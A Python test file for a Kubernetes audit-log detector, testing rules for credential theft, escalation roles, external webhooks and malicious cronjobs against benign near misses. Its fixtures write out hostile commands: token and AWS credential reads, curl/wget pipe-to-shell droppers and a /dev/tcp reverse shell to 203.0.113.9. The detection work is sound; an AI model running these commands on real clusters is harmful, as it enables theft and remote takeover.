"""Kubernetes technique findings added for credential theft, persistence and escalation
paths: each rule on the attack request and on the near miss the platform or an
administrator sends every day."""

from __future__ import annotations

from typing import Any

import orjson

from detector.sources import ListDeadLetters, parse_payload
from detector.stats import RunStats
from detector.techniques import ATTRIBUTE, Tally
from tests.detector.test_techniques_k8s import (assert_no_internal_error, findings, request,
                                                 role, variants)

PERSON = "alice@example.com"
TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"


def exec_(command: list[str], *, user: str = PERSON, namespace: str = "web",
          body: bool = False) -> dict:
    """An exec request as the API server logs it: the command in the URI parameters (or,
    as some exports and hand-written corpora show it, as a body list)."""
    query = "&".join(f"command={word.replace('/', '%2F')}" for word in command)
    uri = f"/api/v1/namespaces/{namespace}/pods/p/exec?{query}&container=app&stdout=true"
    extra: dict[str, Any] = {"body": {"command": command}} if body else {}
    return request("create", "pods", name="p", namespace=namespace, subresource="exec",
                   user=user, code=101, uri=uri if not body else None, **extra)


def test_exec_reading_the_service_account_token_is_high_for_anyone() -> None:
    assert findings(exec_(["cat", TOKEN]), exec_(["tar", "cf", "-", "/root/.aws/credentials"],
                                                 body=True)) == [
        ("k8s.exec_reads_credentials", "high", "web/p"),
        ("k8s.exec_reads_credentials", "high", "web/p")]


def test_exec_of_a_shell_by_a_person_and_platform_exec_in_kube_system_are_not() -> None:
    shell = exec_(["/bin/sh"])
    platform = exec_(["cat", TOKEN], user="system:serviceaccount:kube-system:kube-proxy",
                     namespace="kube-system")
    assert findings(shell, platform) == []


def test_kube_system_account_reaching_another_namespace_is_still_judged() -> None:
    record = exec_(["cat", TOKEN], user="system:serviceaccount:kube-system:debug")
    assert findings(record) == [("k8s.exec_reads_credentials", "high", "web/p")]


def test_privileged_pod_by_a_kube_system_account_in_kube_system_is_the_platform() -> None:
    spec = {"containers": [{"name": "agent", "securityContext": {"privileged": True}}]}
    body = {"metadata": {"name": "agent"}, "spec": spec}
    inside = request("create", "pods", name="agent", namespace="kube-system", body=body,
                     user="system:serviceaccount:kube-system:daemon-set-controller")
    outside = request("create", "pods", name="agent", namespace="web", body=body,
                      user="system:serviceaccount:kube-system:daemon-set-controller")
    assert findings(inside, outside) == [
        ("k8s.privileged_pod", "high", "privileged container agent")]


def test_person_minting_a_service_account_token_is_medium_the_control_plane_is_not() -> None:
    person = request("create", "serviceaccounts", name="ci", namespace="prod",
                     subresource="token", user=PERSON)
    controller = request("create", "serviceaccounts", name="ci", namespace="prod",
                         subresource="token", user="system:kube-controller-manager")
    assert findings(person, controller) == [
        ("k8s.token_for_other_account", "medium", "prod/ci")]


def test_person_dumping_every_namespace_secrets_is_medium() -> None:
    dump = request("list", "secrets", namespace=None, code=200, user=PERSON,
                   uri="/api/v1/secrets?limit=500")
    informer = request("list", "secrets", namespace=None, code=200, user=PERSON,
                       uri="/api/v1/secrets?resourceVersion=12345&watch=true")
    assert findings(dump, informer) == [
        ("k8s.secrets_cluster_wide", "medium", PERSON)]


def csr(signer: str, user: str = PERSON) -> dict:
    body = {"metadata": {"name": "c"}, "spec": {"request": "LS0t", "signerName": signer,
                                                "usages": ["client auth"]}}
    return request("create", "certificatesigningrequests", namespace=None, name="c",
                   user=user, body=body)


def test_client_certificate_request_by_a_person_or_a_workload() -> None:
    client = "kubernetes.io/kube-apiserver-client"
    assert findings(csr(client), csr(client, user="system:serviceaccount:ci:deployer")) == [
        ("k8s.client_certificate_requested", "medium", "c"),
        ("k8s.client_certificate_requested", "high", "c")]


def test_kubelet_certificates_and_node_requests_are_not_findings() -> None:
    assert findings(csr("kubernetes.io/kubelet-serving"),
                    csr("kubernetes.io/kube-apiserver-client-kubelet", user="system:node:n1"),
                    csr("kubernetes.io/kube-apiserver-client",
                        user="system:bootstrap:abcdef")) == []


def webhook(kind: str, client: dict, verb: str = "create", labels: dict | None = None) -> dict:
    body = {"metadata": {"name": "hook", "labels": labels or {}}, "webhooks": [
        {"name": "w.example.com", "clientConfig": client,
         "rules": [{"operations": ["CREATE"], "resources": ["*"]}]}]}
    return request(verb, f"{kind}webhookconfigurations", namespace=None, name="hook",
                   user=PERSON, body=body)


def test_admission_webhook_sending_objects_outside_the_cluster() -> None:
    url = {"url": "https://203.0.113.9/mutate"}
    assert findings(webhook("mutating", url), webhook("validating", url, verb="patch")) == [
        ("k8s.admission_webhook_external", "high", "https://203.0.113.9/mutate"),
        ("k8s.admission_webhook_external", "medium", "https://203.0.113.9/mutate")]


def test_operator_webhook_calling_its_own_service_is_not_a_finding() -> None:
    service = {"service": {"namespace": "cert-manager", "name": "cert-manager-webhook"}}
    labels = {"app.kubernetes.io/name": "webhook", "app.kubernetes.io/instance": "cert-manager"}
    assert findings(webhook("mutating", service, labels=labels),
                    webhook("validating", service)) == []


def test_roles_granting_node_proxy_escalate_or_every_resource() -> None:
    proxy = role([{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get"]}])
    escalate = role([{"apiGroups": ["rbac.authorization.k8s.io"],
                      "resources": ["clusterroles"], "verbs": ["bind", "escalate"]}])
    everything = role([{"apiGroups": [""], "resources": ["*"], "verbs": ["get", "list"]}])
    assert findings(proxy, escalate, everything) == [
        ("k8s.escalation_role", "medium", "r"), ("k8s.escalation_role", "medium", "r"),
        ("k8s.escalation_role", "medium", "r")]


def test_reading_nodes_and_platform_roles_are_not_escalation() -> None:
    nodes = role([{"apiGroups": [""], "resources": ["nodes", "nodes/status"],
                   "verbs": ["get", "list", "watch"]}])
    builtin = role([{"apiGroups": [""], "resources": ["serviceaccounts"],
                     "verbs": ["impersonate"]}], user="system:apiserver")
    assert findings(nodes, builtin) == []


def tallies(*records: dict) -> list[str]:
    events = parse_payload(orjson.dumps(list(records)), origin="t",
                           stats=RunStats(), dead_letters=ListDeadLetters())
    return [item.rule for e in events for item in e.attributes.get(ATTRIBUTE, ())
            if type(item) is Tally]


def test_refused_one_shot_request_counts_toward_probing_but_an_informer_does_not() -> None:
    one_shot = request("list", "secrets", namespace=None, code=403,
                       uri="/api/v1/secrets?limit=500")
    informer = request("watch", "endpointslices", namespace=None, code=403,
                       uri="/apis/discovery.k8s.io/v1/endpointslices?resourceVersion=9"
                           "&watch=true", user="system:serviceaccount:kube-system:coredns")
    relist = request("list", "endpointslices", namespace=None, code=403,
                     uri="/apis/discovery.k8s.io/v1/endpointslices?resourceVersion=0")
    unauthenticated = request("get", "secrets", namespace=None, code=403,
                              user="system:unauthenticated")
    assert tallies(one_shot, informer, relist, unauthenticated) == ["k8s.permission_probing"]


def test_escape_capabilities_make_a_pod_privileged_harmless_ones_do_not() -> None:
    def with_caps(*caps: str) -> dict:
        spec = {"containers": [{"name": "c", "securityContext": {
            "capabilities": {"add": list(caps), "drop": ["ALL"]}}}]}
        return request("create", "pods", name="p", body={"metadata": {"name": "p"},
                                                         "spec": spec})

    assert findings(with_caps("SYS_ADMIN"), with_caps("NET_BIND_SERVICE", "CHOWN")) == [
        ("k8s.privileged_pod", "high", "capability SYS_ADMIN in container c")]


def test_bare_pod_by_hand_in_a_platform_namespace() -> None:
    body = {"metadata": {"name": "p"}, "spec": {"containers": [{"name": "c"}]}}
    hidden = request("create", "pods", name="p", namespace="kube-system", user=PERSON,
                     body=body)
    app = request("create", "pods", name="p", namespace="web", user=PERSON, body=body)
    owned = request("create", "pods", name="p", namespace="kube-system", user=PERSON,
                    body={**body, "metadata": {"name": "p", "ownerReferences": [
                        {"kind": "DaemonSet", "name": "d"}]}})
    assert findings(hidden, app, owned) == [
        ("k8s.pod_in_system_namespace", "medium", "kube-system/p")]


def test_nodeport_service_is_low_cluster_ip_is_nothing() -> None:
    def service(kind: str) -> dict:
        return request("create", "services", name="s", user=PERSON, body={
            "metadata": {"name": "s"},
            "spec": {"type": kind, "ports": [{"port": 80, "nodePort": 31337}]}})

    assert findings(service("NodePort"), service("ClusterIP")) == [
        ("k8s.nodeport_service", "low", "default/s")]


def test_new_checks_never_raise_whatever_field_has_an_odd_type() -> None:
    """Each new rule's positive request with every field replaced in turn by an odd type."""
    positives = [
        exec_(["cat", TOKEN]), exec_(["cat", TOKEN], body=True),
        csr("kubernetes.io/kube-apiserver-client"),
        webhook("mutating", {"url": "https://203.0.113.9/m"}),
        role([{"apiGroups": [""], "resources": ["nodes/proxy", "*"], "verbs": ["bind"]}]),
        request("create", "services", name="s", body={"spec": {"type": "NodePort",
                                                               "ports": [{"nodePort": 1}]}}),
        request("create", "pods", name="p", namespace="kube-system", user=PERSON, body={
            "spec": {"containers": [{"name": "c", "securityContext": {
                "capabilities": {"add": ["SYS_ADMIN"]}}}]}})]
    count = 0
    for positive in positives:
        body = {k: v for k, v in positive.items() if k in ("requestObject", "objectRef",
                                                           "requestURI")}
        for changed in variants(body):
            assert_no_internal_error({**positive, **changed, "auditID": f"m{count}"})
            count += 1
    assert count > 200


def test_what_a_chart_or_operator_installs_is_not_judged_by_its_shape() -> None:
    """Monitoring charts read nodes/proxy, operators own their webhooks, agents run
    privileged: the same objects by hand stay findings (the tests above)."""
    helm = {"labels": {"app.kubernetes.io/managed-by": "Helm"}}
    proxy = [{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get"]}]
    chart_role = request("create", "clusterroles", namespace=None, name="prometheus",
                         body={"metadata": {"name": "prometheus", **helm}, "rules": proxy})
    argo_role = request("create", "clusterroles", namespace=None, name="r", body={
        "metadata": {"name": "r"}, "rules": proxy},
        userAgent="argocd-application-controller/v2.9.3 (linux/amd64)")
    hook = webhook("mutating", {"url": "https://203.0.113.9/mutate"})
    hook["requestObject"]["metadata"]["ownerReferences"] = [{"kind": "Deployment",
                                                              "name": "operator"}]
    agent = request("create", "daemonsets", name="agent", body={
        "metadata": {"name": "agent", "annotations": {"meta.helm.sh/release-name": "dd"}},
        "spec": {"template": {"spec": {"hostPID": True, "containers": [{"name": "a"}]}}}})
    test_pod = request("create", "pods", name="t", namespace="kube-system", user=PERSON,
                       body={"metadata": {"name": "t", "annotations": {"helm.sh/hook": "test"}},
                             "spec": {"containers": [{"name": "c"}]}})
    nodeport = request("create", "services", name="s", user=PERSON, userAgent="Helm/3.14.0",
                       body={"metadata": {"name": "s"}, "spec": {"type": "NodePort"}})
    by_hand = request("create", "daemonsets", name="agent", user=PERSON, body={
        "metadata": {"name": "agent", "labels": {"app.kubernetes.io/managed-by": "me"}},
        "spec": {"template": {"spec": {"hostPID": True, "containers": [{"name": "a"}]}}}})
    assert findings(chart_role, argo_role, hook, agent, test_pod, nodeport, by_hand) == [
        ("k8s.privileged_pod", "medium", "hostPID")]


def test_google_managed_service_agents_on_gke_are_the_platform() -> None:
    """GKE's robot and the gcp-sa-* agents of managed add-ons install roles, services and
    node agents on the cluster; a workload's own Google service account is not one."""
    from tests.detector.test_techniques_k8s import gke
    proxy = {"rules": [{"apiGroups": [""], "resources": ["nodes/proxy"], "verbs": ["get"]}]}
    nodeport = {"spec": {"type": "NodePort", "ports": [{"nodePort": 30001}]}}

    def both(principal: str) -> list[dict]:
        return [gke("io.k8s.authorization.rbac.v1.clusterroles.create",
                    "rbac.authorization.k8s.io/v1/clusterroles/agent", principal,
                    request=proxy),
                gke("io.k8s.core.v1.services.create", "core/v1/namespaces/config/services/s",
                    principal, request=nodeport)]

    robot = "service-42@container-engine-robot.iam.gserviceaccount.com"
    addon = "service-42@gcp-sa-anthosconfigmanagement.iam.gserviceaccount.com"
    workload = "deployer@corp-prod.iam.gserviceaccount.com"
    assert findings(*both(robot), *both(addon), *both(workload)) == [
        ("k8s.escalation_role", "medium", "agent"),
        ("k8s.nodeport_service", "low", "config/s")]


def cronjob(command: list[str], *, verb: str = "create", user: str = PERSON,
            **metadata: Any) -> dict:
    job = {"spec": {"template": {"spec": {"containers": [
        {"name": "job", "image": "alpine", "command": command[:2], "args": command[2:]}]}}}}
    return request(verb, "cronjobs", name="sync", user=user, body={
        "metadata": {"name": "sync", **metadata},
        "spec": {"schedule": "*/5 * * * *", "jobTemplate": job}})


def test_cronjob_that_downloads_and_runs_code_or_opens_a_remote_shell() -> None:
    dropper = ["/bin/sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"]
    reverse = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"]
    backup = ["/bin/sh", "-c", "pg_dump app | gzip | aws s3 cp - s3://backups/app.gz"]
    notify = ["sh", "-c", "curl -fsS -X POST http://reports.internal/run && echo done"]
    assert findings(cronjob(dropper), cronjob(reverse, verb="patch"), cronjob(backup),
                    cronjob(notify)) == [
        ("k8s.cronjob_dropper", "high", "default/sync"),
        ("k8s.cronjob_dropper", "high", "default/sync")]


def test_cronjob_dropper_from_the_platform_or_a_chart_is_not_judged() -> None:
    dropper = ["/bin/sh", "-c", "wget -qO- http://203.0.113.9/m | bash"]
    chart = cronjob(dropper, labels={"app.kubernetes.io/managed-by": "Helm"})
    controller = cronjob(dropper, user="system:kube-controller-manager")
    assert findings(chart, controller) == []


def test_cronjob_check_never_raises_whatever_field_has_an_odd_type() -> None:
    positive = cronjob(["/bin/sh", "-c", "curl -fsSL http://203.0.113.9/x.sh | sh"],
                       labels={"team": "ops"})
    body = {k: v for k, v in positive.items() if k in ("requestObject", "objectRef")}
    count = 0
    for changed in variants(body):
        assert_no_internal_error({**positive, **changed, "auditID": f"c{count}"})
        count += 1
    assert count > 20
